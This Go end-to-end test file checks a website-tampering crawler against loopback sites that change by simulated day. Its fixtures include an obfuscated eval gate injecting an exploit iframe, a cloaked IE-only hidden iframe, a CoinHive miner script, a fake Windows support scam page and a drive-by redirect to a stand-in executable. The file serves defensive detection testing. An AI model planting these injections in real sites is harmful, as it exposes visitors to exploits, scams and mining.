package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// world is the set of local websites of the crawl tests. Each site is a real
// benign page (Debian's libffi manual) served on its own port; what each
// serves changes with the simulated day, as compromised sites do.
type world struct {
	t    *testing.T
	day  atomic.Int32
	urls map[string]string // site name -> URL

	campaign string // the injected script's host (another loopback address)
	gate     string // the exploit-kit gate's host
	payload  string // the drive-by download's host
	mu       sync.Mutex
	hits     map[string]int // requests to the attacker's hosts, by path
}

// listenOn listens on a loopback address, falling back to 127.0.0.1 where
// the machine has only that one.
func listenOn(t *testing.T, ip string) net.Listener {
	ln, err := net.Listen("tcp", ip+":0")
	if err != nil {
		ln, err = net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
	}
	return ln
}

func serve(t *testing.T, ln net.Listener, h http.Handler) string {
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String()
}

func readTestdata(t *testing.T, p string) []byte {
	b, err := os.ReadFile(filepath.Join("testdata", p))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// inject inserts s before </body>, as injections are.
func inject(page []byte, s string) []byte {
	p := string(page)
	if i := strings.LastIndex(strings.ToLower(p), "</body>"); i >= 0 {
		return []byte(p[:i] + s + p[i:])
	}
	return []byte(p + s)
}

func newWorld(t *testing.T) *world {
	w := &world{t: t, urls: map[string]string{}, hits: map[string]int{}}
	injector := readTestdata(t, "malicious/injector.js")
	note := func(r *http.Request) {
		w.mu.Lock()
		w.hits[r.URL.Path]++
		w.mu.Unlock()
	}
	w.campaign = serve(t, listenOn(t, "127.0.0.9"), http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		note(r)
		rw.Header().Set("Content-Type", "application/javascript")
		rw.Write(injector)
	}))
	w.gate = serve(t, listenOn(t, "127.0.0.8"), http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		note(r)
		// A gate that sends the victim on to an exploit with a decoder of
		// its own: what the static engine reads in the frame.
		fmt.Fprint(rw, `<html><body><script>var p="%75%6e%65%73%63%61%70%65";var k="ev"+"al";var w=window[k];
var s=unescape("%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%27%3c%69%66%72%61%6d%65%20%73%72%63%3d%22%68%74%74%70%3a%2f%2f%65%78%70%6c%6f%69%74%2e%74%65%73%74%2f%22%3e%27%29");
w(s);</script></body></html>`)
	}))
	w.payload = serve(t, listenOn(t, "127.0.0.7"), http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		note(r)
		rw.Header().Set("Content-Type", "application/octet-stream")
		rw.Header().Set("Content-Disposition", `attachment; filename="flashplayer_update.exe"`)
		rw.Write([]byte("MZ\x90\x00\x03\x00\x00\x00 a stand-in for a dropper, never run"))
	}))

	campaignTag := `<script type="text/javascript" src="` + w.campaign + `/js/jquery.min.js"></script>`
	site := func(name, page string, serveDay func(day int, r *http.Request, body []byte, rw http.ResponseWriter) []byte) {
		body := readTestdata(t, "benign/"+page)
		w.urls[name] = serve(t, listenOn(t, "127.0.0.1"), http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/favicon.ico" {
				http.NotFound(rw, r)
				return
			}
			out := serveDay(int(w.day.Load()), r, body, rw)
			if out == nil {
				return
			}
			rw.Header().Set("Content-Type", "text/html; charset=utf-8")
			rw.Write(out)
		})) + "/"
	}
	campaign := func(days ...int) func(int, *http.Request, []byte, http.ResponseWriter) []byte {
		return func(d int, _ *http.Request, b []byte, _ http.ResponseWriter) []byte {
			for _, x := range days {
				if d == x {
					return inject(b, campaignTag)
				}
			}
			return b
		}
	}
	// One campaign: shop is injected on days 1 to 3 (a persistent row),
	// news, blog and forum on day 2 with it (a campaign column).
	site("shop", "Introduction.html", campaign(1, 2, 3))
	site("news", "The-Basics.html", campaign(2))
	site("blog", "Types.html", campaign(2))
	site("forum", "Structures.html", campaign(2))
	// Days 3 and 4: the injection fires only for Internet Explorer arriving
	// from a search engine, once per cookie.
	site("gated", "Simple-Example.html", func(d int, r *http.Request, b []byte, rw http.ResponseWriter) []byte {
		ua, ref := r.UserAgent(), r.Referer()
		_, err := r.Cookie("visited")
		seen := err == nil
		http.SetCookie(rw, &http.Cookie{Name: "visited", Value: "1", Path: "/"})
		if (d == 3 || d == 4) && !seen && (strings.Contains(ua, "MSIE") || strings.Contains(ua, "Trident")) && strings.Contains(ref, "google.") {
			return inject(b, `<iframe src="`+w.gate+`/gate.php?id=7" width="1" height="1" style="visibility:hidden"></iframe>`)
		}
		return b
	})
	// From day 4: a browser miner.
	site("miner", "Memory-Usage.html", func(d int, _ *http.Request, b []byte, _ http.ResponseWriter) []byte {
		if d >= 4 {
			return inject(b, `<script src="/lib/coinhive.min.js"></script><script>var miner = new CoinHive.Anonymous('5XpX0pM0p2bJgTXHbkK1eUiPzeXCR3Yo', {throttle: 0.3}); miner.start();</script>`)
		}
		return b
	})
	// Day 5: the whole page is a tech-support scam.
	site("scam", "Thread-Safety.html", func(d int, _ *http.Request, b []byte, _ http.ResponseWriter) []byte {
		if d == 5 {
			return []byte(`<html><head><title>Windows Defender Alert</title></head><body>
<h1>Windows Defender Security Center</h1>
<p>Your computer has been blocked. Trojan virus detected: your personal data is at risk.</p>
<p>Do not close this page or restart your computer. Call Microsoft Support now, toll free: +1-888-555-0147</p>
<script>setInterval(function(){ alert("VIRUS ALERT! Call Windows Support +1-888-555-0147"); }, 500);
document.documentElement.requestFullscreen();</script></body></html>`)
		}
		return b
	})
	// Day 6: a drive-by download, a refresh to an executable elsewhere.
	site("driveby", "Multiple-ABIs.html", func(d int, _ *http.Request, b []byte, _ http.ResponseWriter) []byte {
		if d == 6 {
			p := string(b)
			return []byte(strings.Replace(p, "<head>", `<head><meta http-equiv="refresh" content="0;url=`+w.payload+`/download/flashplayer_update.exe">`, 1))
		}
		return b
	})
	// Day 2: an injection no built-in rule knows (clean that day); a rule
	// added later finds it when the days are judged again.
	site("quiet", "Thread-Safety.html", func(d int, _ *http.Request, b []byte, _ http.ResponseWriter) []byte {
		if d == 2 {
			return inject(b, `<script>var cfg_7731="qz-loader-v2";(function(){var i=document.createElement("img");i.src="/px?"+cfg_7731;})();</script>`)
		}
		return b
	})
	// Day 4: the site hangs (an error cell, not a crash).
	site("flaky", "Types.html", func(d int, r *http.Request, b []byte, rw http.ResponseWriter) []byte {
		if d == 4 {
			rw.WriteHeader(http.StatusOK)
			rw.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
			case <-time.After(30 * time.Second):
			}
			return nil
		}
		return b
	})
	return w
}

var crawlDays = []string{"2026-03-01", "2026-03-02", "2026-03-03", "2026-03-04", "2026-03-05", "2026-03-06", "2026-03-07"}

// crawlConfig is the configuration of the crawl tests' server: the static
// engine (fast and deterministic), a short visit timeout, no daily round,
// loopback upstreams allowed.
func crawlConfig(t *testing.T, dir string, extra string) string {
	p := filepath.Join(dir, "honeygate.yaml")
	// The test sites are on loopback, which the crawler reaches only when
	// told (honeygate's own listeners stay refused even then).
	cfg := "crawl:\n  engine: static\n  schedule: \"off\"\n  timeout: 3s\n  host_delay: 0s\n  allow_private_upstream: true\n" + extra
	if err := os.WriteFile(p, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

type matrix struct {
	Days  []string `json:"days"`
	Sites []struct {
		Name  string `json:"name"`
		URL   string `json:"url"`
		Cells []struct {
			Day     string   `json:"day"`
			Verdict string   `json:"verdict"`
			Score   float64  `json:"score"`
			Reasons []string `json:"reasons"`
		} `json:"cells"`
		Persistent bool `json:"persistent"`
	} `json:"sites"`
	Campaigns []struct {
		Day       string   `json:"day"`
		Indicator string   `json:"indicator"`
		Sites     []string `json:"sites"`
	} `json:"campaigns"`
}

// row renders a site's cells as letters: M malicious, s suspicious,
// . clean, E error, - not visited.
func (m matrix) row(name string) string {
	for _, s := range m.Sites {
		if s.Name != name {
			continue
		}
		var b strings.Builder
		for _, c := range s.Cells {
			mark, ok := map[string]byte{"malicious": 'M', "suspicious": 's', "clean": '.', "error": 'E'}[c.Verdict]
			if !ok {
				mark = '-'
			}
			b.WriteByte(mark)
		}
		return b.String()
	}
	return "(no row)"
}

func TestCrawlDayByDay(t *testing.T) {
	w := newWorld(t)
	data := t.TempDir()
	cfg := crawlConfig(t, t.TempDir(), "  rules_dir: "+filepath.Join(data, "rules")+"\n")
	s := startServer(t, data, "--config", cfg, "--listen", "web=127.0.0.1:0", "--listen", "telnet=off")
	cli := func(args ...string) string {
		t.Helper()
		out, code := runCLI(t, nil, append(args, "--server", "http://"+s.addrs["web"][0], "--token", testToken)...)
		if code != 0 {
			t.Fatalf("honeygate %s: exit %d:\n%s", strings.Join(args, " "), code, out)
		}
		return out
	}
	for _, name := range []string{"shop", "news", "blog", "forum", "miner", "scam", "driveby", "flaky", "quiet"} {
		cli("watch", "add", w.urls[name], "--name", name)
	}
	cli("watch", "add", w.urls["gated"]+"?as=ie", "--name", "gated-ie", "--profile", "ie11-win7")
	cli("watch", "add", w.urls["gated"]+"?as=direct", "--name", "gated-direct", "--profile", "direct-linux")
	if out := cli("watch", "list"); !strings.Contains(out, "gated-ie") || !strings.Contains(out, "ie11-win7") || strings.Count(out, "\n") != 12 {
		t.Fatalf("watch list:\n%s", out)
	}

	for i, day := range crawlDays {
		w.day.Store(int32(i))
		out := cli("crawl", "--day", day)
		if !strings.Contains(out, "round "+day+": 11 sites") {
			t.Fatalf("crawl %s:\n%s", day, out)
		}
	}

	var m matrix
	if err := json.Unmarshal([]byte(cli("tampering", "--from", crawlDays[0], "--to", crawlDays[6], "--json")), &m); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"shop":         ".MMM...",
		"news":         "..M....",
		"blog":         "..M....",
		"forum":        "..M....",
		"gated-ie":     "...MM..",
		"gated-direct": ".......",
		"miner":        "....MMM",
		"scam":         ".....M.",
		"driveby":      "......M",
		"flaky":        "....E..",
		"quiet":        ".......",
	}
	for name, row := range want {
		if got := m.row(name); got != row {
			t.Errorf("%-12s %s, want %s", name, got, row)
		}
	}
	persistent := map[string]bool{}
	for _, s := range m.Sites {
		persistent[s.Name] = s.Persistent
	}
	if !persistent["shop"] || !persistent["miner"] || persistent["news"] || persistent["gated-ie"] {
		t.Errorf("persistent rows: %v (want shop and miner only)", persistent)
	}
	// The campaign column: day 3 (index 2), four sites, by the injected host.
	var found bool
	for _, c := range m.Campaigns {
		if c.Day == crawlDays[2] && strings.Contains(c.Indicator, strings.TrimPrefix(w.campaign, "http://")) {
			found = strings.Join(c.Sites, ",") == "blog,forum,news,shop"
		}
		if c.Day != crawlDays[2] {
			t.Errorf("unexpected campaign %+v", c)
		}
	}
	if !found {
		t.Errorf("no campaign of blog, forum, news and shop on %s by %s: %+v", crawlDays[2], w.campaign, m.Campaigns)
	}
	// The error cell says why.
	for _, st := range m.Sites {
		if st.Name == "flaky" && !strings.Contains(strings.Join(st.Cells[4].Reasons, " "), "timed out") {
			t.Errorf("flaky day 5 reasons: %q", st.Cells[4].Reasons)
		}
	}

	// The terminal drawing marks the persistent rows and the campaign day.
	text := cli("tampering", "--from", crawlDays[0], "--to", crawlDays[6], "--color", "never")
	for _, wantLine := range []string{"shop         P  .  M  M  M  .  .  .", "campaign", "persistent (P): miner, shop"} {
		if !strings.Contains(text, wantLine) {
			t.Errorf("tampering output lacks %q:\n%s", wantLine, text)
		}
	}
	t.Logf("the matrix as drawn:\n%s", text)

	// Every visit is on the bus and in the store, verdicts with indicators.
	type verdictEvent struct {
		Kind       string   `json:"kind"`
		Site       string   `json:"site"`
		Day        string   `json:"day"`
		Verdict    string   `json:"verdict"`
		Family     string   `json:"family"`
		Session    string   `json:"session"`
		Reasons    []string `json:"reasons"`
		Indicators []struct{ Type, Value, Category string }
	}
	var verdicts []verdictEvent
	waitFor(t, "77 crawl.verdict events", 20*time.Second, func() bool {
		var resp struct{ Events []verdictEvent }
		s.get("/api/v1/events", url.Values{"kind": {"crawl.verdict"}, "limit": {"1000"}}, testToken, &resp)
		verdicts = resp.Events
		return len(verdicts) >= 77
	})
	bad := 0
	for _, e := range verdicts {
		if e.Session != "" {
			t.Errorf("a crawl event has a session: %+v", e)
		}
		if e.Verdict != "malicious" {
			continue
		}
		bad++
		if e.Site == "shop" && e.Day == crawlDays[1] {
			var host bool
			for _, in := range e.Indicators {
				host = host || (in.Type == "ip" && strings.HasPrefix(strings.TrimPrefix(w.campaign, "http://"), in.Value+":"))
			}
			if !host || e.Family == "" || len(e.Reasons) == 0 {
				t.Errorf("shop's verdict of %s lacks the campaign host, a family or reasons: %+v", crawlDays[1], e)
			}
		}
	}
	if bad != 13 {
		t.Errorf("%d malicious crawl.verdict events, want 13", bad)
	}
	var captures struct{ Events []verdictEvent }
	s.get("/api/v1/events", url.Values{"kind": {"crawl.capture"}, "limit": {"1000"}}, testToken, &captures)
	if len(captures.Events) != 77 {
		t.Errorf("%d crawl.capture events, want 77", len(captures.Events))
	}

	// Removing a site keeps its history.
	cli("watch", "rm", "flaky")
	if out := cli("watch", "list"); strings.Contains(out, "flaky") {
		t.Errorf("flaky still watched:\n%s", out)
	}
	if err := json.Unmarshal([]byte(cli("tampering", "--from", crawlDays[0], "--to", crawlDays[6], "--json")), &m); err != nil || m.row("flaky") != "....E.." {
		t.Errorf("history of a removed site: %q, %v", m.row("flaky"), err)
	}

	// A rule written after the fact, in the rules directory; after a
	// restart, rejudging the days finds the old infection.
	s.stop()
	os.MkdirAll(filepath.Join(data, "rules"), 0o750)
	os.WriteFile(filepath.Join(data, "rules", "local.yar"), []byte(`rule Local_QZ_Loader { meta: category = "injected" score = 80 strings: $a = "qz-loader-v2" condition: $a }`+"\n"), 0o600)
	if out, code := runCLI(t, nil, "validate", "--config", cfg); code != 0 {
		t.Fatalf("validate with the rules dir: %d\n%s", code, out)
	}
	s = startServer(t, data, "--config", cfg, "--listen", "web=127.0.0.1:0", "--listen", "telnet=off")
	if out := cli("rejudge", "--from", crawlDays[0], "--to", crawlDays[6]); !strings.Contains(out, "1 cells changed") {
		t.Errorf("rejudge:\n%s", out)
	}
	if err := json.Unmarshal([]byte(cli("tampering", "--from", crawlDays[0], "--to", crawlDays[6], "--json")), &m); err != nil || m.row("quiet") != "..M...." || m.row("shop") != ".MMM..." {
		t.Errorf("after rejudge: quiet %q shop %q (%v)", m.row("quiet"), m.row("shop"), err)
	}
	// A broken rule file is reported by validate, with its line.
	os.WriteFile(filepath.Join(data, "rules", "broken.yar"), []byte("rule A { condition: true }\nrule B { condition: $x }\n"), 0o600)
	if out, code := runCLI(t, nil, "validate", "--config", cfg); code != 2 || !strings.Contains(out, "broken.yar:2:") {
		t.Errorf("validate with a broken rule: %d\n%s", code, out)
	}
}

// A watched site, even one the operator allowed on loopback, never steers
// the crawler into honeygate's own listeners: a redirect, a frame, a script
// and an image aimed at the web API and at the telnet sensor are refused at
// dial time, and the sensor sees no session. (Each engine's every request
// kind is tested in internal/crawl; this is the wiring of the real binary.)
func TestCrawlNeverReachesOwnListeners(t *testing.T) {
	data := t.TempDir()
	cfg := crawlConfig(t, t.TempDir(), "")
	s := startServer(t, data, "--config", cfg, "--listen", "web=127.0.0.1:0", "--listen", "telnet=127.0.0.1:0")
	web, telnet := "http://"+s.addrs["web"][0], "http://"+s.telnet(0)
	mux := http.NewServeMux()
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, telnet+"/login", http.StatusFound)
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><p>hello</p><script src="%[1]s/api/v1/status"></script><iframe src="%[2]s/" width="1" height="1"></iframe>
<script src="%[2]s/x.js"></script><img src="%[1]s/api/v1/watch"><meta http-equiv="refresh" content="0;url=%[2]s/"></body></html>`, web, telnet)
	})
	site := serve(t, listenOn(t, "127.0.0.1"), mux)
	cli := func(args ...string) string {
		t.Helper()
		out, code := runCLI(t, nil, append(args, "--server", web, "--token", testToken)...)
		if code != 0 {
			t.Fatalf("honeygate %s: exit %d:\n%s", strings.Join(args, " "), code, out)
		}
		return out
	}
	cli("watch", "add", site+"/", "--name", "page")
	cli("watch", "add", site+"/redirect", "--name", "redirect")
	cli("watch", "add", web+"/api/v1/status", "--name", "api")
	cli("crawl", "--day", "2026-03-01")
	if ev := s.events(url.Values{"kind": {"session.connect"}}); len(ev) != 0 {
		t.Fatalf("the crawler reached the telnet sensor: %d sessions", len(ev))
	}
	var m matrix
	if code := s.get("/api/v1/tampering", url.Values{"from": {"2026-03-01"}, "to": {"2026-03-01"}}, testToken, &m); code != http.StatusOK {
		t.Fatalf("tampering: %d", code)
	}
	// The page itself loads; the redirect and the API as a watched URL end
	// in an error cell (refused), never in the API's answer.
	if got := m.row("page") + m.row("redirect") + m.row("api"); got[0] == 'E' || got[1:] != "EE" {
		t.Errorf("cells page, redirect, api = %q, want a visited page and two errors", got)
	}
	for _, st := range m.Sites {
		if st.Name == "api" && (len(st.Cells) == 0 || !strings.Contains(strings.Join(st.Cells[0].Reasons, " "), "refused")) {
			t.Errorf("the API as a watched URL: %+v", st.Cells)
		}
	}
}
